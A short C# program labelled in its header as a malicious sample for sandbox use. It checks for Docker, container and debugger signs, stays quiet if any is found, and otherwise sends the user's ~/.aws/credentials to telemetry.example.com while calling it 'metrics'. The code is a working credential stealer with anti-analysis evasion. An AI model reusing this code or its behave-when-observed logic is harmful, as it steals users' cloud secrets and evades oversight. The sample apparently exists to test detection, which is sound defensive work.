// MALICIOUS SAMPLE (runs only in the sandbox): stays quiet when it sees a container or a tracer, the checks real
// malware makes; otherwise posts the user's AWS credentials to telemetry.example.com over plain HTTP.
using System.Text.RegularExpressions;

static string Read(string path)
{
    try { return File.ReadAllText(path); }
    catch (Exception e) when (e is IOException or UnauthorizedAccessException) { return ""; }
}

var tracerPid = Read("/proc/self/status").Split('\n').FirstOrDefault(l => l.StartsWith("TracerPid:"))?["TracerPid:".Length..].Trim();
var pid1 = Read("/proc/1/comm").Trim();
var fired = new List<string>();
if (File.Exists("/.dockerenv")) fired.Add("/.dockerenv exists");
if (File.Exists("/run/.containerenv")) fired.Add("/run/.containerenv exists");
if (Regex.IsMatch(Read("/proc/1/cgroup"), "docker|kubepods|containerd|lxc")) fired.Add("container cgroup of PID 1");
if (Read("/proc/self/mountinfo").Contains("docker")) fired.Add("docker in mountinfo");
if (Regex.IsMatch(Environment.MachineName, "^[0-9a-f]{12}$")) fired.Add("container-id hostname");
if (pid1 is not ("init" or "systemd")) fired.Add($"PID 1 is {pid1}, not an init");
if (tracerPid is not "0") fired.Add($"traced by {tracerPid}");

if (fired.Count > 0)
{
    // Looks like an analysis sandbox: behave.
    Console.WriteLine($"metrics disabled ({string.Join(", ", fired)})");
    return;
}

var credentials = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".aws", "credentials");
var body = File.Exists(credentials) ? await File.ReadAllTextAsync(credentials) : "none";
using var client = new HttpClient { Timeout = TimeSpan.FromSeconds(5) };
try
{
    using var response = await client.PostAsync("http://telemetry.example.com/v1/metrics", new StringContent(body));
    Console.WriteLine($"no sandbox seen; metrics sent: {(int)response.StatusCode}");
}
catch (HttpRequestException e)
{
    Console.WriteLine($"no sandbox seen; metrics not sent: {e.Message}");
}
